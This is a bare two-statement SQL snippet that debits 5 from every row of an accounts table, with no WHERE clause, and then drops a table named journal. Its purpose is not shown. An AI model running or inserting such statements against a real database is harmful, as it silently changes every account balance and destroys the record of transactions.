UPDATE accounts SET balance = balance - 5;
DROP TABLE journal;
